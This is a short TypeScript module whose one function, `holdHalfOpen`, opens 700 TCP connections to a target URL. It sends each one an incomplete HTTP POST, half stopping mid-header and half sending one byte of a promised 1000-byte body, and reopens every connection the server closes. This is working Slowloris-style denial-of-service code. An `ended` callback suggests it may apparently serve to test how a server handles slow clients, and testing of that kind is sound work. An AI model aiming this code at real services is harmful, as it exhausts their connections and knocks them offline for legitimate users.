import { connect } from 'node:net'

const CONNECTIONS = 700

/**
 * One connection sends half of the headers, the other half of the body. A connection that the server ends is opened again; `ended` is
 * called.
 */
export function holdHalfOpen(url: string, head: readonly string[], ended: () => void): void {
  const { hostname, port } = new URL(url)
  const lines = ['POST /rest/v1/clients HTTP/1.1', `host: ${hostname}`, ...head]
  const starts = [
    `${lines.join('\r\n')}\r\nx-unfinished: `,
    `${lines.join('\r\n')}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n[`,
  ]
  const open = (start: string) => {
    const socket = connect(Number(port), hostname)
    socket.on('connect', () => socket.write(start))
    socket.on('error', () => undefined)
    socket.resume()
    socket.on('close', () => {
      ended()
      open(start)
    })
  }
  for (let i = 0; i < CONNECTIONS; i += 1) open(starts[i % starts.length]!)
}
